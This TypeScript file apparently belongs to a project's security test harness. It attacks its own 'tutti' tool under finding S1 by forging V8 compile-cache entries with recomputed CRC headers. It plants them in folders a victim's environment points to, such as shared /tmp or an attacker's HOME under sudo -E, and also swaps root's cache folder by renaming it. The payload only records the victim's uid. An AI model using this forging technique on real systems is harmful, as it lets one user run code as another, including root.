/**
 * Finding S1 (docs/security.md): V8's code cache. Anyone who can put an entry where another user's Node looks
 * for it runs code as that user. An entry has a header of 20 bytes (magic, length of the source, length of
 * the payload, CRC of the source, CRC of the payload) that anyone can compute. Its name and folder depend
 * only on path, version and flags.
 */
import { chmodSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { basename, dirname, join } from "node:path";
import { crc32 } from "node:zlib";
import type { Account } from "../accounts.ts";
import { type Attack, type Outcome, Tally } from "../attack.ts";
import type { Stage } from "../stage.ts";

const SOURCE_LENGTH_AT = 4;
const SOURCE_CRC_AT = 12;
const HEAD_BYTES = 20;

/** Environments of a victim that name the attacker's folder. */
const TRAPS: readonly { readonly what: string; readonly env: (folder: string) => NodeJS.ProcessEnv }[] = [
  { what: "a shared /tmp", env: (folder) => ({ TMPDIR: folder }) },
  // As left by sudo -E and by su without a dash.
  { what: "the attacker's HOME", env: (folder) => ({ HOME: folder, TMPDIR: folder }) },
  { what: "the attacker's XDG_CACHE_HOME", env: (folder) => ({ XDG_CACHE_HOME: folder, TMPDIR: folder }) },
];
/** Folders below each of them in which a program may keep its cache. */
const USUAL = ["node-compile-cache", ".cache/tutti", ".cache/node-compile-cache", "tutti", "tutti-cache"];

/** Runs a package with a cache in a given folder, with the flags that bin/tutti.js sets. */
const RUNNER = `import module from "node:module";
import { setFlagsFromString } from "node:v8";
setFlagsFromString("--no-maglev-escape-analysis");
const [, , folder, program] = process.argv;
module.enableCompileCache(folder);
process.argv = [process.argv[0], program, "--version"];
await import(program);
`;

class Forgery {
  readonly #stage: Stage;
  /** Has a line for each user who has run the evil code. */
  readonly #marks: string;
  readonly #evil: string;
  readonly #runner: string;

  constructor(stage: Stage) {
    this.#stage = stage;
    const folder = stage.makeFolder("marks", 0o1777);
    this.#marks = join(folder, "marks");
    this.forget();
    chmodSync(this.#marks, 0o666);
    this.#runner = join(stage.makeFolder("runner"), "runner.mjs");
    writeFileSync(this.#runner, RUNNER);
    // The same package with different code of the same length.
    this.#evil = stage.makeFolder("evil");
    cpSync(stage.package, this.#evil, { recursive: true });
    const code = `process.getBuiltinModule("node:fs").appendFileSync(${JSON.stringify(this.#marks)},process.getuid()+"\\n");`;
    for (const name of this.#sources()) {
      const path = join(this.#evil, "dist", name);
      const { length } = readFileSync(path);
      if (length > code.length) writeFileSync(path, code.padEnd(length, "\n"));
    }
  }

  victims(): string[] {
    return readFileSync(this.#marks, "utf8").split("\n").filter(Boolean);
  }

  forget(): void {
    writeFileSync(this.#marks, "");
  }

  /** Fills a folder as the attacker, for a victim. Returns the number of forged entries. */
  async fill(attacker: Account, folder: string, env: NodeJS.ProcessEnv, victimUid: number): Promise<number> {
    const forged = await this.#forge(attacker);
    // The attacker learns where her own `tutti` puts its cache by running it.
    await this.#stage.run(attacker, [...this.#stage.tutti, "--version"], env);
    const own = new Set(filesIn(folder).map((path) => dirname(dirname(path))));
    const places = [...USUAL.map((name) => join(folder, name)), ...own];
    for (const place of places) {
      for (const { group, name, bytes } of forged) {
        const inside = join(place, group.replace(/\d+$/, String(victimUid)));
        mkdirSync(inside, { recursive: true });
        writeFileSync(join(inside, name), bytes);
      }
    }
    // The files belong to her, and her victim's Node can read them.
    await this.#stage.run(undefined, ["chown", "-R", `${attacker.uid}:${attacker.gid}`, folder]);
    await this.#stage.run(undefined, ["chmod", "-R", "go+rX", folder]);
    return forged.length * places.length;
  }

  /** Entries with correct names and headers and the payload of the evil code. */
  async #forge(attacker: Account) {
    const cacheOf = async (folder: string): Promise<string[]> => {
      const cache = this.#stage.makeFolder("cache", 0o755, attacker);
      const program = join(folder, "dist", "tutti.js");
      await this.#stage.run(attacker, [process.execPath, this.#runner, cache, program]);
      return filesIn(cache);
    };
    const payloads = (await cacheOf(this.#evil)).map((path) => readFileSync(path));
    const sources = this.#sources().map((name) => readFileSync(join(this.#stage.package, "dist", name)));
    const forged = [];
    for (const path of await cacheOf(this.#stage.package)) {
      const head = readFileSync(path).subarray(0, HEAD_BYTES);
      const crc = head.readUInt32LE(SOURCE_CRC_AT);
      const source = sources.find((one) => crc32(one) === crc);
      const payload = payloads.find((one) => one.readUInt32LE(SOURCE_LENGTH_AT) === source?.length);
      if (payload === undefined) continue;
      const bytes = Buffer.from(payload);
      bytes.writeUInt32LE(crc, SOURCE_CRC_AT);
      forged.push({ group: basename(dirname(path)), name: basename(path), bytes });
    }
    if (forged.length === 0)
      throw new Error("Cannot forge an entry: no source has one of its length and CRC");
    return forged;
  }

  #sources(): string[] {
    return readdirSync(join(this.#stage.package, "dist")).filter((name) => name.endsWith(".js"));
  }
}

/** All files in a folder and its subfolders. */
function filesIn(folder: string): string[] {
  if (!existsSync(folder)) return [];
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

async function forgedBeforehand(stage: Stage): Promise<Outcome> {
  const { eve, ann } = stage.users;
  const forgery = new Forgery(stage);
  const tally = new Tally();
  let forged = 0;
  for (const { what, env } of TRAPS) {
    for (const victim of [undefined, ann]) {
      const folder = stage.makeFolder("trap", 0o1777, eve);
      const uid = victim?.uid ?? 0;
      forged += await forgery.fill(eve, folder, env(folder), uid);
      forgery.forget();
      for (const verb of ["--version", "jobs"]) await stage.run(victim, [...stage.tutti, verb], env(folder));
      tally.attempt(forgery.victims().includes(String(uid)) && `evil code ran as user ${uid} by ${what}`);
    }
  }
  return tally.outcome(`none of ${forged} forged entries was read`);
}

/**
 * Only the top folder is hers. Root's first run makes its own folder in it, which she renames and replaces.
 */
async function renamedAway(stage: Stage): Promise<Outcome> {
  const { eve } = stage.users;
  const forgery = new Forgery(stage);
  const tally = new Tally();
  for (const { what, env } of TRAPS) {
    const folder = stage.makeFolder("trap", 0o1777, eve);
    const forged = stage.makeFolder("forged", 0o755, eve);
    await forgery.fill(eve, forged, {}, 0);
    for (const name of USUAL) await stage.run(eve, ["mkdir", "-p", join(folder, name)]);
    await stage.run(undefined, [...stage.tutti, "--version"], env(folder));
    const rename = `cd "$1" && for place in ${USUAL.join(" ")}; do
      for one in "$2/$place"/*; do
        mv "$place/\${one##*/}" "$place/old" 2> /dev/null; cp -r "$one" "$place/"; done; done; true`;
    await stage.run(eve, ["bash", "-c", rename, "bash", folder, forged]);
    forgery.forget();
    // The evil code reads no command line, so it ends at once.
    await stage.serve({ env: env(folder) }).catch(() => {});
    await stage.clear();
    tally.attempt(forgery.victims().includes("0") && `evil code ran as root in tutti serve, by ${what}`);
  }
  return tally.outcome("root's tutti serve read none of them");
}

export const COMPILE_CACHE: readonly Attack[] = [
  {
    name: "cache-forged",
    finding: "S1",
    about: "forged entries of V8's code cache in every folder that an environment can name",
    needs: "users",
    run: forgedBeforehand,
  },
  {
    name: "cache-renamed",
    finding: "S1",
    about: "the victim's own folder of the code cache is renamed and replaced before tutti serve",
    needs: "users",
    run: renamedAway,
  },
];
